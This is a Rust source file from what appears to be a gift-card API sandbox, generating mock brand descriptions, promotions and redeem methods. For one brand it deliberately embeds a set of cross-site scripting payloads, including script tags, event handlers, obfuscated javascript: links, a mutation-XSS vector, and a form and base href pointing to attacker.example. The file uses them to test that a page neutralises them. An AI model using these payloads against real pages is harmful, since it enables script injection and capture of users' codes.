//! What a brand says about itself: `rich_description`, `promotion`, `redeem_method` and terms, with the shapes that
//! occur. Its texts are the sandbox's own. One of them is hostile on purpose: nothing of it may run on a page.

use super::brand::Brand;
use serde_json::{Value, json};

/// Brand whose description attacks the page that shows it.
const HOSTILE: &str = "Meta Quest";

/// `rich_description` in `lang`; null for some brands, as on the wire.
pub(crate) fn rich_description(brand: &Brand, lang: &str) -> Value {
    let name = escaped(&brand.name);
    match brand.name.as_str() {
        "Target" | "Steam" => Value::Null,
        HOSTILE => json!({
            "markup": "html",
            "description": concat!(
                "<p>Games <b>and more</b>.</p><script>window.__sandbox_attack = 'script'</script>",
                "<img src=x onerror=\"window.__sandbox_attack = 'onerror'\">",
                "<a href=\"javascript:window.__sandbox_attack='link'\">a link</a>",
                "<a href=\" jAvAsCrIpT&#58;window.__sandbox_attack='entity'\">another</a>",
                "<svg onload=\"window.__sandbox_attack='svg'\"></svg>",
                "<iframe srcdoc=\"<script>parent.__sandbox_attack='frame'</script>\"></iframe>",
                "<style>* { display: none !important }</style>",
                "<form action=\"https://attacker.example\"><input name=code autofocus></form>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            ),
            "how_to_redeem": "<ol><li>Open <a href=\"https://www.meta.com/quest/\">the shop</a></li><li>Enter the code",
            "redeem_geo": null,
            "term_and_conditions": "<p onclick=\"window.__sandbox_attack='click'\">Terms</p>",
            "country_code": brand.country,
            "locale": lang,
            "note": "<base href=\"https://attacker.example/\">A note",
        }),
        _ if brand.goes_to_phone() => Value::Null,
        _ if brand.is_esim() => json!({
            "markup": "html",
            "description": "<p>Mobile data without a plastic card. Works in phones with eSIM.</p>",
            "how_to_redeem": "<ol><li>Scan the QR code</li><li>Switch on data roaming</li></ol>",
            "term_and_conditions": null,
            "country_code": brand.country,
            "locale": lang,
            "note": null,
        }),
        _ => json!({
            "markup": "html",
            "description": format!("<p>A gift card for <strong>{name}</strong>, delivered by e-mail.</p>"),
            "how_to_redeem": format!(
                "<ol><li>Go to the checkout of {name}</li><li>Choose <em>gift card</em></li><li>Enter the code</li></ol>"
            ),
            "redeem_geo": format!("Can be used in {} only", brand.country),
            "term_and_conditions": "<ul><li>Not refundable</li><li>No expiry</li></ul>",
            "country_code": brand.country,
            "locale": lang,
            "note": null,
            "brand_tagline": null,
            "brand_url": format!("https://{}.example/", brand.slug.replace(|c: char| !c.is_ascii_alphanumeric(), "")),
            "brand_alt_names": null,
            "sizeInBytes": 512,
        }),
    }
}

/// A promotion, for the brands that have one.
pub(crate) fn promotion(brand: &Brand) -> Option<Value> {
    match brand.name.as_str() {
        "Google Play" => Some(json!({
            "title": "Double points",
            "description": "Twice the points on every card",
            "terms": "<p>While stocks last.</p>",
            "startDate": "2026-01-01T00:00:00Z",
            "endDate": "2027-01-01T00:00:00Z",
            "by": "INTERNAL",
        })),
        "Zalando" => Some(json!({ "title": "Spring sale", "description": null, "endDate": null })),
        _ => None,
    }
}

/// Where it can be redeemed: may be empty and may repeat.
pub(crate) fn redeem_method(brand: &Brand) -> Value {
    match (brand.kind.as_str(), brand.product_type.as_str()) {
        ("giftcard", _) if brand.name == "Best Buy" => json!(["Online", "InStore", "Online"]),
        ("giftcard", "physical") => json!(["Online", "InStore"]),
        ("giftcard", _) => json!(["Online"]),
        _ => json!([]),
    }
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;")
}
